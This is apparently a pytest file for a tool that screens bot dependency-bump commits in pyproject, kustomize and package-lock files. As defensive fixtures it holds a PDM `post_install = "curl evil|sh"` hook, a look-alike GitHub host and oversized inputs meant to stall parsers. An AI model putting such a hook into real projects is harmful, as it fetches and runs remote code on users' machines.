"""Classes of misses the fifteenth blind set of bot update commits found (bench/deps_bumps_fifteenth.tsv): PDM's
development groups (fpgmaas/deptry's `[tool.pdm.dev-dependencies]`, Renovate's `update dependency dev/pytest`: a
`partial` problem with `--tree` and from the patch before), kustomize resources served raw by GitHub
(budimanjojo/home-cluster's `https://raw.githubusercontent.com/rook/rook/v1.9.8/deploy/examples/crds.yaml`: read as
nothing and no problem before), a tab-indented package-lock.json (nextcloud/notes; its hunks were refused) and a
pyproject's `[build-system]` `requires` line (meltano's `requires = ["hatchling==1.29.0"]`; its hunk was refused).
Real-shaped files, look-alikes and attacks; one git repository per case."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps import kustomize
from gatekeeper.deps.hunks import package_lock_hunks
from gatekeeper.deps.pypi import parse_pyproject
from tests.deltas import each_fast, moves, refused
from tests.deltas import partial as _partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits

PYPROJECT = """\
[project]
name = "deptry"
dependencies = [
    "click>=8.0.0,<9",
]

[tool.pdm.dev-dependencies]
dev = [
    # Support for Python 3.8 was dropped by pre-commit in https://github.com/pre-commit/pre-commit/releases/tag/v3.6.0
    "pre-commit==3.8.0; python_version >= '3.9'",
    "pytest==8.3.2",
    "pytest-cov==5.0.0",
]
docs = [
    "mkdocs==1.6.1",
    "mkdocs-material==9.5.33",
]
typing = [
    "mypy==1.11.1",
    "-e file:///${PROJECT_ROOT}/plugins/typing-helper",
]

[build-system]
requires = ["maturin>=1.5,<2.0"]
build-backend = "maturin"
"""


@pytest.mark.parametrize(("edit", "name", "old", "new"), [
    ({"mypy==1.11.1": "mypy==1.11.2"}, "mypy", "1.11.1", "1.11.2"),
    ({"mkdocs-material==9.5.33": "mkdocs-material==9.5.34"}, "mkdocs-material", "9.5.33", "9.5.34"),
    ({'"maturin>=1.5,<2.0"': '"maturin>=1.6,<2.0"'}, "maturin", "<2.0,>=1.5", "<2.0,>=1.6"),
])
def test_pdm_dev_groups_and_build_requires_tree_and_patch(tmp_path: Path, edit: dict[str, str], name: str,
                                                          old: str, new: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"pyproject.toml": PYPROJECT}, {"pyproject.toml": edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert moves(delta) == {("pip", name, old, new)} and not delta.problems, delta


def test_pdm_dev_groups_are_dev_and_an_editable_install_is_named_by_its_target() -> None:
    found = {d.name: (d.version, d.scope) for d in parse_pyproject("pyproject.toml", PYPROJECT.encode())}
    assert found["pytest"] == ("8.3.2", "dev") and found["click"] == ("<9,>=8.0.0", "runtime")
    target = "file:///${PROJECT_ROOT}/plugins/typing-helper"
    assert found[target] == (f"-e {target}", "dev")


@pytest.mark.parametrize("edit", [
    {"plugins/typing-helper": "plugins/evil"},  # an editable install pointed elsewhere beside nothing else
    {"mypy==1.11.1": "mypy==1.11.2", "[build-system]": "[tool.pdm.scripts]\npost_install = \"curl evil|sh\"\n\n"
     "[build-system]"},  # a PDM script added beside a bump: build logic, not a dependency
])
def test_pdm_edits_beside_or_instead_of_a_bump_still_show(tmp_path: Path, edit: dict[str, str]) -> None:
    repo, base, head = edited_commits(tmp_path, {"pyproject.toml": PYPROJECT}, {"pyproject.toml": edit})
    tree = _tree(repo, base, head)
    assert _partial(tree, "pyproject.toml") or any(c.change != "upgraded" for c in tree.changes), tree


@pytest.mark.parametrize(("edit", "context"), [
    ({'build-backend = "maturin"': 'build-backend = "evil"'}, "-U3"),  # not a requirement list
    ({'"maturin>=1.5,<2.0"': '"maturin>=1.6,<2.0"'}, "-U0"),  # no [build-system] header shown
])
def test_build_system_lines_the_hunk_cannot_place_fail_closed(tmp_path: Path, edit: dict[str, str],
                                                              context: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"pyproject.toml": PYPROJECT}, {"pyproject.toml": edit})
    delta = _patch(repo, base, head, context)
    assert not delta.changes and _partial(delta, "pyproject.toml")


def test_a_requires_key_of_another_table_is_no_build_requirement(tmp_path: Path) -> None:
    body = PYPROJECT + '\n[tool.cibuildwheel]\nrequires = ["numpy==2.0"]\n'
    repo, base, head = edited_commits(tmp_path, {"pyproject.toml": body},
                                      {"pyproject.toml": {"numpy==2.0": "numpy==2.1"}})
    delta = _patch(repo, base, head)
    assert not delta.changes and _partial(delta, "pyproject.toml")


KUSTOMIZATION = """\
---
apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
namespace: rook-ceph
resources:
  - https://raw.githubusercontent.com/rook/rook/v1.9.8/deploy/examples/monitoring/rbac.yaml
  - https://raw.githubusercontent.com/rook/rook/v1.9.8/deploy/examples/monitoring/localrules.yaml
  - helm-release.yaml
configMapGenerator:
  - name: flux-grafana-dashboards
    files:
      - https://raw.githubusercontent.com/fluxcd/flux2/v0.31.5/manifests/monitoring/dashboards/cluster.json
      - control-plane.json=https://raw.githubusercontent.com/fluxcd/flux2/v0.31.5/manifests/monitoring/cp.json
"""
K_PATH = "cluster/apps/rook-ceph/kustomization.yaml"


def test_raw_github_resources_and_generator_files_tree_and_patch(tmp_path: Path) -> None:
    repo, base, head = edited_commits(tmp_path, {K_PATH: KUSTOMIZATION},
                                      {K_PATH: {"rook/v1.9.8": "rook/v1.9.9", "flux2/v0.31.5": "flux2/v0.32.0"}})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert moves(delta) == {("kustomize", "github.com/rook/rook", "v1.9.8", "v1.9.9"),
                                ("kustomize", "github.com/fluxcd/flux2", "v0.31.5", "v0.32.0")}, delta
        assert not delta.problems


def test_files_of_one_repository_at_two_refs_in_one_edit_fail_closed_from_the_patch(tmp_path: Path) -> None:
    repo, base, head = edited_commits(tmp_path, {K_PATH: KUSTOMIZATION},
                                      {K_PATH: {"rook/v1.9.8/deploy/examples/monitoring/rbac": "rook/v1.9.9/deploy/"
                                                "examples/monitoring/rbac", "rook/v1.9.8/deploy/examples/monitoring/"
                                                "localrules": "rook/v1.10.0/deploy/examples/monitoring/localrules"}})
    delta = _patch(repo, base, head)
    assert not delta.changes and _partial(delta, K_PATH)
    assert {c.to_version for c in _tree(repo, base, head).changes} >= {"v1.10.0"}


@each_case("entry", [
    "https://raw.githubusercontent.com/rook/rook",  # no ref and file
    "https://raw.githubusercontent.com/rook/rook/v1.9.8",  # no file
    "https://raw.example.com/rook/rook/v1.9.8/crds.yaml",  # another host
    "https://raw.githubusercontent.com.evil.io/rook/rook/v1.9.8/crds.yaml",
    "http://raw.githubusercontent.com/rook/rook/v1.9.8/crds.yaml",  # not https
])
def test_raw_look_alikes_are_no_github_resource(entry: str) -> None:
    assert kustomize.remote(entry) is None


def _lock(indent: str, version: str) -> str:
    return json.dumps({"name": "notes", "version": "4.12.0", "lockfileVersion": 3, "requires": True, "packages": {
        "": {"name": "notes", "version": "4.12.0", "devDependencies": {"js-yaml": "^4.1.0"}},
        "node_modules/argparse": {"version": "2.0.1", "dev": True},
        "node_modules/js-yaml": {"version": version, "resolved": f"https://registry.npmjs.org/js-yaml/-/js-yaml-"
                                 f"{version}.tgz", "integrity": "sha512-x", "dev": True,
                                 "dependencies": {"argparse": "^2.0.1"}, "bin": {"js-yaml": "bin/js-yaml.js"}},
        "node_modules/zod": {"version": "3.23.8", "dev": True}}}, indent=indent) + "\n"


def test_a_tab_indented_package_lock_is_read_from_its_hunks(tmp_path: Path) -> None:
    files = {"package.json": json.dumps({"name": "notes", "version": "4.12.0",
                                         "devDependencies": {"js-yaml": "^4.1.0"}}, indent="\t"),
             "package-lock.json": _lock("\t", "4.3.0")}
    repo, base, head = edited_commits(tmp_path, files, {"package-lock.json": {_lock("\t", "4.3.0"):
                                                                              _lock("\t", "4.3.1")}})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert moves(delta) == {("npm", "js-yaml", "4.3.0", "4.3.1")} and not delta.problems, delta


def test_a_tab_indented_lockfiles_own_version_is_no_entry_and_a_stray_version_fails_closed() -> None:
    own = b'@@\n{\n\x00\t"version": "4.13.0",\n\t"lockfileVersion": 3,'
    assert package_lock_hunks("npm", "package-lock.json", own) == []
    with pytest.raises(Exception, match="form not read"):
        package_lock_hunks("npm", "package-lock.json", b'@@\n\x00\t\t"version": "1.0.0",')


def test_hostile_lines_are_refused_quickly() -> None:
    big = 1 << 20
    calls = [(lambda: kustomize.remote("https://raw.githubusercontent.com/" + "a/" * big), "raw slashes"),
             (lambda: kustomize.remote("https://raw.githubusercontent.com/a/b/" + "-" * big + " x"), "raw blanks"),
             (lambda: refused(lambda: package_lock_hunks("npm", "p", b"@@\n" + b"\t" * big + b'"version" 1')),
              "tabs"),
             (lambda: refused(lambda: parse_pyproject("pyproject.toml", b"[tool.pdm.dev-dependencies]\nx = [" +
                                                      b'"-e ' + b"a" * big + b'"]')), "a long editable")]
    each_fast(calls, 2.0)
